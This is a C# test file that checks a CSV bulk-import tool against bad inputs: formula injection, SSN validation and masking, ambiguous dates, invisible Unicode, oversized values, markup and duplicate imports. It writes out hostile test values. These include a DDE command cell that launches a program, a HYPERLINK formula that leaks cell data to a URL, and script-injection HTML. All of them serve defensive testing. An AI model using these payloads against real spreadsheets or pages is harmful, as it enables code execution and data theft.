using BulkImport.Core.Domains.Clients;
using System.Text;
using System.Text.RegularExpressions;
using Bunit;
using BulkImport.App.Components.Shared;
using BulkImport.Core.Csv;
using BulkImport.Core.Data;
using BulkImport.Core.Domains;
using BulkImport.Core.Imports;
using BulkImport.Core.Security;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using MudBlazor.Services;

using BulkImport.Tests.Support;

namespace BulkImport.Tests.BadInputs;

/// <summary>BAD-INPUTS.md cases 36-47: the values in the cells, and the file as a whole against earlier imports.</summary>
public class FieldValueBadInputTests : BadInputApiTest
{
    public FieldValueBadInputTests()
        : this(TestEngine.Sqlite)
    {
    }

    /// <summary>The same tests on another engine.</summary>
    protected FieldValueBadInputTests(TestEngine engine)
        : base(engine: engine)
    {
    }

    private static readonly string[] FormulaCells =
        ["=HYPERLINK(\"http://x?\"&A1,\"x\")", "+1", "-2+3", "@SUM(A1)", "=1+2\";=1+2", "=cmd|' /C calc'!A0"];

    [Fact]
    public async Task Case36_formula_cells_are_imported_as_text_and_escaped_on_export_and_the_round_trip_keeps_them()
    {
        var csv = new StringBuilder("First Name,Last Name,City\r\n");
        foreach (var cell in FormulaCells)
        {
            csv.Append(Quote(cell)).Append(",Lee,Tampa\r\n");
        }

        // Cells that start with tab, CR or LF: white space at the edges is trimmed, so they are the formula itself.
        csv.Append("\"\t=1\",\"\r=1\",\"\n=1\"\r\n");
        var import = await UploadAsync(csv.ToString());

        import.Status.Should().Be(ImportStatus.ReadyForReview);
        import.ValidRows.Should().Be(FormulaCells.Length + 1, "formula-like text is text: nothing runs on import");
        var rows = await RowsAsync(import);
        rows.Take(FormulaCells.Length).Select(r => r.Values["First Name"]).Should().Equal(FormulaCells);
        var edges = rows[^1];
        (edges.Values["First Name"], edges.Values["Last Name"], edges.Values["City"]).Should().Be(("=1", "=1", "=1"));

        // Every CSV the product writes (results files, pre-filled templates) goes through CsvExport, which escapes such
        // cells (SPEC 10, OWASP).
        var exported = Export(["First Name", "Last Name", "City"], rows.Select(r => new[] { r.Values["First Name"], r.Values["Last Name"], r.Values["City"] }));
        exported.Should().Contain("\"'=HYPERLINK(\"\"http://x?\"\"&A1,\"\"x\"\")\"").And.Contain("'+1").And.Contain("'-2+3").And.Contain("'@SUM(A1)");
        exported.Should().NotMatchRegex("(^|[,\n])[=+@-]", "no exported cell may start with a formula character");

        // ...and reading our own export back gives the values again: the protecting apostrophe is not part of them.
        var again = await UploadAsync(Utf8(exported)); // the export starts with a byte order mark
        again.Status.Should().Be(ImportStatus.ReadyForReview);
        (await RowsAsync(again)).Select(r => r.Values["First Name"]).Should().Equal(rows.Select(r => r.Values["First Name"]));
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case37_an_injection_split_across_a_separator_is_exported_as_one_escaped_quoted_cell()
    {
        var import = await UploadAsync("First Name,Last Name\r\n\"=1+2\"\";=1+2\",Lee\r\n");

        var row = await RowAsync(import, 2);
        row.Status.Should().Be(RowStatus.Valid);
        row.Values["First Name"].Should().Be("=1+2\";=1+2");
        Export(["First Name"], [[row.Values["First Name"]]]).Should().Be("\uFEFFFirst Name\r\n\"'=1+2\"\";=1+2\"\r\n");
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case38_leading_zeros_are_kept_as_text()
    {
        var import = await UploadAsync("First Name,Last Name,Zip,SSN,Phone Number\r\nAnn,Lee,08123,001-23-4567,(001) 555-0100\r\nBo,Ng,00501-0001,001 23 4567,\r\n");

        import.ValidRows.Should().Be(2);
        var ann = await RowAsync(import, 2);
        (ann.Values["Zip"], ann.Values["Phone Number"]).Should().Be(("08123", "(001) 555-0100"));
        (await StoredSsnAsync(import, 2)).Should().Be("001234567");
        (await RowAsync(import, 3)).Values["Zip"].Should().Be("00501-0001");
        (await StoredSsnAsync(import, 3)).Should().Be("001234567");
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Excel_s_text_marker_is_taken_off_a_string_and_any_other_formula_stays_text()
    {
        // ="…" is how programs write a value into a CSV for Excel to show as typed; Excel shows what is inside.
        var import = await UploadAsync("First Name,Last Name,Zip,SSN,City\r\n=\"Ann\",Lee,=\"08123\",\"=\"\"001-23-4567\"\"\",=\" Tampa \"\r\n"
            + "Bo,Ng,,,=\"a\"&\"b\"\r\n");

        import.ValidRows.Should().Be(2);
        var ann = await RowAsync(import, 2);
        (ann.Values["First Name"], ann.Values["Zip"], ann.Values["City"]).Should().Be(("Ann", "08123", "Tampa"));
        (await StoredSsnAsync(import, 2)).Should().Be("001234567");
        (await RowAsync(import, 3)).Values["City"].Should().Be("=\"a\"&\"b\"", "a formula that is more than one string is text, as case 36 says");
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case39_ssn_formats_are_normalised_and_invalid_ssns_are_row_errors_with_the_number_masked()
    {
        string[] valid = ["123456789", "123-45-6789", "123 45 6789", "123\u201345\u20136789"];
        string[] invalid = ["123-45-678", "000-12-3456", "666-12-3456", "912-34-5678", "123-00-6789", "123-45-0000", "12-345-6789", "123.45.6789", "SSN 123456789"];
        var csv = new StringBuilder("First Name,Last Name,SSN\r\n");
        foreach (var ssn in valid.Concat(invalid))
        {
            csv.Append("Ann,Lee,").Append(ssn).Append("\r\n");
        }

        var import = await UploadAsync(csv.ToString());

        (import.ValidRows, import.ErrorRows).Should().Be((valid.Length, invalid.Length));
        var rows = await RowsAsync(import);
        rows.Take(valid.Length).Should().OnlyContain(r => r.Values["SSN"] == "***-**-6789");
        for (var row = 2; row < 2 + valid.Length; row++)
        {
            (await StoredSsnAsync(import, row)).Should().Be("123456789");
        }

        foreach (var (row, ssn) in rows.Skip(valid.Length).Zip(invalid))
        {
            var message = MessageOn(row, "SSN");
            message.Should().MatchRegex(@"\*\*\*-\*\*-(\d{4}|\*\*\*\*)", $"row {row.RowNumber} shows the SSN masked");
            var digits = Regex.Replace(ssn, @"\D", "");
            message.Should().NotContain(ssn).And.NotContain(digits).And.NotContain(digits[..5], $"row {row.RowNumber} shows no more than the last four digits");
        }

        MessageOn(rows.Single(r => r.RowNumber == 2 + valid.Length + 1), "SSN").Should().Be(
            "SSN ***-**-3456 is not valid: its first three digits cannot be 000, 666 or 900-999");
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case40_ambiguous_dates_are_read_only_in_the_declared_format_and_others_name_it()
    {
        var import = await UploadAsync("First Name,Last Name,Date of Birth\r\nA,Lee,28/01/2018\r\nB,Lee,01/02/2018\r\nC,Lee,2018-13-01\r\nD,Lee,43128\r\nE,Lee,1/2/18\r\nF,Lee,2018-01-28\r\nG,Lee,Jan 28 2018\r\n");

        var rows = await RowsAsync(import);
        MessageOn(rows[0], "Date of Birth").Should().Be("Date of Birth is not a real date: there is no month 28; use MM/DD/YYYY, month first");
        rows[1].Values["Date of Birth"].Should().Be("01/02/2018", "MM/DD/YYYY: January 2, never guessed from the culture");
        MessageOn(rows[2], "Date of Birth").Should().Be("Date of Birth is not a real date: there is no month 13; use MM/DD/YYYY");
        MessageOn(rows[3], "Date of Birth").Should().StartWith("Date of Birth must be a date like MM/DD/YYYY, not a number; a spreadsheet may have turned the date into a serial number");
        MessageOn(rows[4], "Date of Birth").Should().Be("Date of Birth must have a four-digit year, like MM/DD/YYYY");
        rows[5].Values["Date of Birth"].Should().Be("01/28/2018");
        MessageOn(rows[6], "Date of Birth").Should().Be("Date of Birth must be a date like MM/DD/YYYY (or YYYY-MM-DD)");
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case41_locale_numbers_in_the_only_numeric_column_are_refused_with_the_expected_form()
    {
        string[] numbers = ["\"1,5\"", "1.5", "\"1.234,56\"", "$74.69", "1e5", "+7", "٣"];
        var csv = new StringBuilder("Client ID,First Name\r\n");
        foreach (var number in numbers)
        {
            csv.Append(number).Append(",Ann\r\n");
        }

        var import = await UploadAsync(csv.ToString(), operation: "Update");

        import.ErrorRows.Should().Be(numbers.Length);
        foreach (var row in await RowsAsync(import))
        {
            MessageOn(row, "Client ID").Should().Be(row.RowNumber == 3
                ? "Client ID '1.5' is not a whole number; IDs have no decimals."
                : "Client ID must be a whole number greater than 0, like 123");
        }

        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case42_null_ish_tokens_are_text_validated_like_any_value_with_a_warning_and_only_an_empty_cell_is_no_value()
    {
        var import = await UploadAsync("First Name,Last Name,City,Address,Email,Zip\r\n"
            + "NULL,N/A,#N/A,-,\"\",\r\n"
            + "Ann,Lee,,,,N/A\r\n"
            + "Bo,\"\",,,,\r\n");

        import.Status.Should().Be(ImportStatus.ReadyForReview);
        var tokens = await RowAsync(import, 2);
        tokens.Status.Should().Be(RowStatus.Valid, "they are text, and a warning does not stop a row");
        (tokens.Values["First Name"], tokens.Values["Last Name"], tokens.Values["City"], tokens.Values["Address"], tokens.Values["Email"])
            .Should().Be(("NULL", "N/A", "#N/A", "-", ""));
        tokens.Messages.Should().HaveCount(4).And.OnlyContain(m => m.Severity == "Warning");
        MessageOn(tokens, "Last Name").Should().Be("'N/A' is imported as the text N/A; if it means 'no value', clear the cell (an empty cell is no value).");

        MessageOn(await RowAsync(import, 3), "Zip").Should().Be("Zip must be 5 digits or ZIP+4, like 33755 or 33755-1234");
        MessageOn(await RowAsync(import, 4), "Last Name").Should().Be("Last Name is required to add a new client.", "\"\" is an empty cell");
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case43_an_over_long_value_is_a_cell_error_naming_the_limit_and_a_row_over_the_row_cap_fails_the_file()
    {
        var oneMegabyteNotes = new string('x', 1_000_000);
        var import = await UploadAsync($"First Name,Last Name,Address\r\n{oneMegabyteNotes},Lee,1 Main St\r\nAnn,{new string('y', 60)},1 Main St\r\nBo,Ng,1 Main St\r\n");

        import.Status.Should().Be(ImportStatus.ReadyForReview);
        var huge = await RowAsync(import, 2);
        huge.Status.Should().Be(RowStatus.Error);
        MessageOn(huge, "First Name").Should().Be("Value is 1,000,000 characters long; the limit is 32,000");
        MessageOn(await RowAsync(import, 3), "Last Name").Should().Be("Last Name is 60 characters long; the limit is 50");
        (await RowAsync(import, 4)).Status.Should().Be(RowStatus.Valid);

        var overCap = await UploadAsync($"First Name,Last Name,Address\r\nAnn,Lee,x\r\nBo,Ng,\"{new string('z', 1_500_000)}\"\r\n");
        FileError(overCap).Should().Be("Row 3 is 1.4 MB long; the limit for one row is 1 MB. Shorten its values and upload again.");
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case44_invisible_characters_are_stripped_from_keys_text_is_nfc_and_duplicates_are_found_on_the_cleaned_values()
    {
        var import = await UploadAsync("Client ID,First Name,Last Name,SSN,Phone Number,Zip,Email\r\n"
            + ",Jose\u0301,\u202ELee\u202C,123\u200B-45-6789,(727)\u00A0123\u2011\u200D1234,33755\u200B,ann@example.org\r\n"
            + "5\u200B,,,,,,\r\n"
            + "\uFEFF5,,,,,,\r\n"
            + ",\u0410nn,Lee,,,,\u0430nn@example.org\r\n"
            + ",Ann,Lee,,,\uFF13\uFF13755,\r\n");

        var clean = await RowAsync(import, 2);
        clean.Status.Should().Be(RowStatus.Valid);
        (clean.Values["First Name"], clean.Values["Last Name"], clean.Values["Phone Number"], clean.Values["Zip"])
            .Should().Be(("Jos\u00E9", "Lee", "(727) 123-1234", "33755"));
        (await StoredSsnAsync(import, 2)).Should().Be("123456789");

        MessageOn(await RowAsync(import, 3), "Client ID").Should().StartWith("Client ID 5 also appears on row 4");
        MessageOn(await RowAsync(import, 4), "Client ID").Should().StartWith("Client ID 5 also appears on row 3");

        // Visible look-alikes are not changed: a Cyrillic letter stays in a name, and fails the ASCII-only key fields.
        var lookalike = await RowAsync(import, 5);
        lookalike.Values["First Name"].Should().Be("\u0410nn");
        MessageOn(lookalike, "Email").Should().StartWith("Email must be an address like name@example.org; the part before the @ cannot contain");
        MessageOn(await RowAsync(import, 6), "Zip").Should().StartWith("Zip must be 5 digits");
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case45_markup_in_text_is_stored_as_text()
    {
        var import = await UploadAsync("First Name,Last Name,City\r\n<script>alert(1)</script>,<img src=x onerror=alert(1)>,\"<b onmouseover=\"\"x\"\">T</b>\"\r\n");

        var row = await RowAsync(import, 2);
        row.Status.Should().Be(RowStatus.Valid);
        (row.Values["First Name"], row.Values["Last Name"], row.Values["City"]).Should().Be(
            ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "<b onmouseover=\"x\">T</b>"));

        // The review grid renders values as text (Razor encodes them; no MarkupString anywhere).
        await using var bunit = new BunitContext();
        bunit.JSInterop.Mode = JSRuntimeMode.Loose;
        bunit.Services.AddMudServices();
        foreach (var service in new[] { typeof(RowPages), typeof(RowEdits), typeof(ImportHistory), typeof(BulkImport.Core.Domains.Common.SelectListSource), typeof(SensitiveDataAudit), typeof(BulkImport.App.Security.CurrentUsers), typeof(BulkImport.Core.Imports.Fixes.ProblemGroups) })
        {
            bunit.Services.AddSingleton(service, App.Services.GetRequiredService(service));
        }

        bunit.Services.AddScoped<BulkImport.App.Security.ImportGate>();

        var domain = App.Services.GetRequiredService<ImportDomains>().Get(ClientDomain.Key);
        var grid = bunit.Render<ReviewGrid>(p => p.Add(g => g.ImportId, import.Id).Add(g => g.Domain, domain));
        grid.WaitForAssertion(() => grid.Markup.Should().Contain("&lt;script&gt;alert(1)&lt;/script&gt;"), TimeSpan.FromSeconds(15)); // loads from the database
        grid.Markup.Should().Contain("&lt;img src=x onerror=alert(1)&gt;");
        grid.FindAll("script, img, b[onmouseover]").Should().BeEmpty();
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case46_the_same_client_id_twice_in_a_file_flags_both_rows_naming_each_other_and_a_shared_ssn_is_not_an_error()
    {
        var import = await UploadAsync("Client ID,First Name,Last Name,SSN\r\n"
            + "7,Ann,Lee,\r\n"
            + ",Bo,Ng,123-45-6789\r\n"
            + "007,Cy,Xu,\r\n"
            + ",Di,Ko,123456789\r\n", operation: "AddUpdate");

        (import.ValidRows, import.ErrorRows).Should().Be((2, 2));
        MessageOn(await RowAsync(import, 2), "Client ID").Should().Be("Client ID 7 also appears on row 4. Keep one row per key: fix or skip the others.");
        MessageOn(await RowAsync(import, 4), "Client ID").Should().Be("Client ID 7 also appears on row 2. Keep one row per key: fix or skip the others.");

        // Decision (SPEC 6): only Client ID decides Insert or Update; the same SSN on two rows is left to the
        // verification of possible duplicates, not a row error.
        (await RowAsync(import, 3)).Status.Should().Be(RowStatus.Valid);
        (await RowAsync(import, 5)).Status.Should().Be(RowStatus.Valid);
        await ClientDataIsUnchangedAsync();
    }

    [Fact]
    public async Task Case47_the_same_file_uploaded_again_warns_naming_the_earlier_import()
    {
        var file = Utf8("Client ID,Email\r\n1,marco.new@example.org\r\n");

        var first = await UploadAsync(file, operation: "Update");
        first.FileWarnings.Should().BeEmpty();
        var open = await UploadAsync(file, operation: "Update");
        open.FileWarnings.Should().ContainSingle().Which.Should().MatchRegex(
            $@"^The same file was uploaded on \d{{4}}-\d\d-\d\d \d\d:\d\d UTC as import #{first.Id}, which is Ready for Review\. Committing both would apply its rows twice: cancel one of them\.$");
        await ClientDataIsUnchangedAsync();

        var committed = await Api.CommitAndWaitAsync(first.Id);
        committed.Status.Should().Be(ImportStatus.Committed);
        await RememberClientDataAsync();

        var again = await UploadAsync(file, operation: "Update");
        again.Status.Should().Be(ImportStatus.ReadyForReview);
        again.FileWarnings.Should().ContainSingle().Which.Should().Be(
            $"This file was already imported on {committed.CompletedAt!.Value:yyyy-MM-dd HH:mm} UTC as import #{first.Id}. Importing it again applies its rows again.");
        (await RowAsync(again, 2)).Action.Should().Be(RowAction.Update, "Client ID 1 exists: the row updates it, it never adds a second client");
        await ClientDataIsUnchangedAsync();
    }

    private static string Quote(string cell) => "\"" + cell.Replace("\"", "\"\"") + "\"";

    /// <summary>Writes rows the way every export of the product does (results files, templates).</summary>
    private static string Export(string[] header, IEnumerable<string[]> rows)
    {
        using var stream = new MemoryStream();
        using (var writer = CsvExport.Create(stream))
        {
            writer.WriteHeader(header);
            foreach (var row in rows)
            {
                writer.WriteRecord(row);
            }
        }

        return Encoding.UTF8.GetString(stream.ToArray());
    }
}
